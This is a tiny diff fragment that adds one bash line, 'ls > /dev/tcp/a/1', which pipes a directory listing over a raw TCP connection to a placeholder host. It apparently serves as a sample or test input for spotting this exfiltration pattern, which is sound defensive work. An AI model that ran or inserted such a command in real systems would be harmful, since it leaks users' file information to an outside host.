@@ -1,0 +1,1 @@
+ls > /dev/tcp/a/1
